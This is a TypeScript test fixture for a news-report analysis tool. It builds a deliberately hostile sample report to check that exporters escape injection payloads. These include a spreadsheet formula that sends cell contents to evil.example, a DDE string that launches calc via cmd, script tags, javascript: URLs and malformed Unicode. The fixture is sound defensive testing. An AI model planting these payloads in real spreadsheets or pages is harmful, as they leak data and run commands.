import { readdirSync } from 'node:fs'
import { fileURLToPath } from 'node:url'
import { analyse } from '../analyse.ts'
import { loadEngine } from '../engine/engine.ts'
import { readSource } from '../read/read.ts'
import { makeRecord } from '../record/make.ts'
import type { Reading } from '../record/reading.ts'
import type { Span } from '../report/span.ts'
import type { Exportable } from './export.ts'

const folder = fileURLToPath(new URL('../../examples/reports/', import.meta.url))

/** The sample reports, read. */
export async function samples(): Promise<Exportable[]> {
  const engine = loadEngine()
  const names = readdirSync(folder).filter(name => !name.endsWith('.md'))
  return Promise.all(
    names.map(async name => analyse(await readSource(`${folder}${name}`, { date: '2025-06-17' }), engine)),
  )
}

/** Everything that has ever broken a table, a page or a parser, as the words of a report. */
export const hostileWords = {
  source: '=HYPERLINK("http://evil.example/?"&A1,"a clerk")',
  content:
    '</p><script>alert("x")</script>, "quoted; \'twice\'"\r\nand\t*on* [two](javascript:x) {lines} \\ 50% _off_ ~ ^ # &amp;',
  trigger: '@burned',
  figure: '-12 🙂🙂 sheds \u202eraeppa\u202c\ud83d',
} as const

const { source, content, trigger, figure } = hostileWords
const text = `🙂 ${source} said ${content}.\n\n${trigger} were ${figure}\u0000 of שלום.`
const span = (words: string): Span => [text.indexOf(words), text.indexOf(words) + words.length]
const common = {
  evidence: [[0, text.length - 1] as Span],
  chain: [],
  status: 'asserted',
  certainty: 'certain',
  when: 0,
  where: 'p1',
  confidence: 0.5,
  why: { rule: 'by-hand', version: '+1', note: '=1+1' },
} as const

export const hostile: Reading = {
  schema: 'onrecord/1',
  report: {
    id: '=id "1",\n<2> ../🙂\ud83d',
    url: 'javascript:alert(1)',
    title: '<b>"=cmd|\' /C calc\'!A0"</b> }{ \\input{x}',
    outlet: '+outlet & <i>',
    agency: null,
    byline: ['@author, "Jr."'],
    published: '2025-06-17',
    updated: null,
    retrieved: null,
    dateline: null,
    language: 'en',
    sha256: '0'.repeat(64),
    text,
    blocks: [],
  },
  voice: [],
  records: [
    makeRecord('r', text, {
      ...common,
      kind: 'statement',
      source: { span: span(source), actor: 'a1' },
      cue: [span('said')],
      content: [span(content)],
      form: 'direct',
      act: 'say',
      addressee: null,
      medium: null,
      anonymity: null,
      answers: null,
    }),
    makeRecord('r', text, {
      ...common,
      kind: 'event',
      type: 'ASSAULT',
      mode: 'explosives',
      contexts: [],
      trigger: span(trigger),
      actors: [{ span: span(source), actor: 'a1' }],
      recipients: [{ span: span(figure), actor: null }],
      implied: false,
      historical: false,
      instrument: null,
      deaths: ['f-1'],
      injuries: [],
      arrests: [],
      quad: 'material-conflict',
      codebook: 'plover@2021',
      statement: null,
    }),
    {
      ...common,
      id: 'f-1',
      kind: 'figure',
      span: span(figure),
      quantity: { low: 12, point: 12, high: 12, approximate: false, words: '-12' },
      what: null,
      unit: null,
      role: 'killed',
      scope: 'incident',
      asOf: null,
      population: null,
      revision: null,
    },
  ],
  actors: [
    { id: 'a1', name: source, kind: 'person', country: 'SD', of: null, roles: ['\tclerk'], mentions: [span(source)] },
  ],
  places: [
    {
      id: 'p1',
      name: '@Orun, "Lower"',
      mentions: [span('שלום')],
      geonameId: 1,
      lat: -15.5,
      lon: -36.25,
      country: 'SD',
      admin1: '<Orun>',
      precision: 'place',
      reason: 'by hand',
    },
  ],
  times: [
    {
      span: span('said'),
      timex: '2025-06-16',
      value: '2025-06-16',
      from: '2025-06-16',
      to: '2025-06-16',
      basis: 'said',
      reason: 'by hand',
    },
  ],
  notices: [],
}

/** A format's output as one piece, text or bytes. */
export async function written(chunks: AsyncIterable<string | Uint8Array>): Promise<Buffer> {
  const parts: Buffer[] = []
  for await (const chunk of chunks) parts.push(Buffer.from(chunk))
  return Buffer.concat(parts)
}

export async function* each(readings: readonly Exportable[]): AsyncGenerator<Exportable> {
  yield* readings
}
